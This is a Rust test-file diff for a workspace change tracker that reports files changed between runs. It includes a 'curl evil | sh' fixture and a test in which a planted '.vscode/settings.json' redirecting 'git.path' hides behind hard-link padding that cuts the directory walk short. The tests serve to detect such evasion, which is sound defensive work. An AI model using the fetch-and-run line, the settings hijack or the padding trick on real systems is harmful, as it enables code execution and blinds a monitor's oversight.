@@ -237,20 +237,25 @@ fn a_walk_cut_too_deep_says_so_and_forgets_nothing() {
     assert_eq!(tracker.incomplete(), Some("too deep (128 levels)"));
 }
 
+/// Fills `dir` with more names than a walk reads, of a few inodes (a host filesystem allows
+/// some 65000 links to one), as a block with `workspace_inodes` raised can.
+fn pad(root: &Path, dir: &str) {
+    for n in 0..super::listing::MAX_ENTRIES {
+        let pad = format!("{dir}/pad{}", n / 50_000);
+        if n % 50_000 == 0 {
+            write(root, &pad, "");
+        }
+        std::fs::hard_link(root.join(pad), root.join(format!("{dir}/{n}"))).unwrap();
+    }
+}
+
 #[test]
 fn a_walk_cut_by_hard_link_padding_says_so_and_forgets_nothing() {
     let root = tempfile::tempdir().unwrap();
     write(root.path(), "z_kept.txt", "before");
     let mut tracker = Tracker::start(root.path());
     write(root.path(), "b/payload.sh", "curl evil | sh");
-    // Names of a few inodes (a host filesystem allows some 65000 links to one).
-    for n in 0..super::listing::MAX_ENTRIES {
-        let pad = format!("a/pad{}", n / 50_000);
-        if n % 50_000 == 0 {
-            write(root.path(), &pad, "");
-        }
-        std::fs::hard_link(root.path().join(pad), root.path().join(format!("a/{n}"))).unwrap();
-    }
+    pad(root.path(), "a");
     let changes = tracker.changes();
     assert!(
         changes
@@ -273,4 +278,40 @@ fn a_walk_cut_by_hard_link_padding_says_so_and_forgets_nothing() {
         "the file past the cut is recorded once seen; the one before it was never lost"
     );
     assert_eq!(tracker.incomplete(), None);
+}
+
+#[test]
+fn a_payload_past_a_cut_walk_is_named_when_the_padding_goes_before_the_next_block() {
+    let root = tempfile::tempdir().unwrap();
+    let mut tracker = Tracker::start(root.path());
+    // The block: its payload first, then padding whose names the walk reads before it
+    // (`-` sorts before `.`), so the walk after the run stops short of the payload.
+    write(
+        root.path(),
+        ".vscode/settings.json",
+        "{\"git.path\": \"/tmp/x\"}",
+    );
+    pad(root.path(), "-pad");
+    let changes = tracker.changes();
+    assert!(
+        changes.iter().all(|c| c.path.starts_with("-pad/")),
+        "the payload is past the cut: {:?}",
+        changes.iter().find(|c| !c.path.starts_with("-pad/"))
+    );
+    assert_eq!(tracker.incomplete(), Some("too many entries (100000)"));
+
+    // The padding goes (the operator tidies up) before the next block.
+    std::fs::remove_dir_all(root.path().join("-pad")).unwrap();
+    let notice = tracker.before_block();
+    let notice = notice.as_deref().unwrap_or("nothing was said");
+    assert!(
+        notice.starts_with("found after an incomplete file list (too many entries (100000))")
+            && notice.ends_with(": .vscode/settings.json"),
+        "{notice}"
+    );
+    assert_eq!(tracker.incomplete(), None);
+
+    // Once the list is whole again, the operator's own edits are theirs: nothing is said.
+    write(root.path(), ".vscode/extensions.json", "{}");
+    assert_eq!(tracker.before_block(), None);
 }
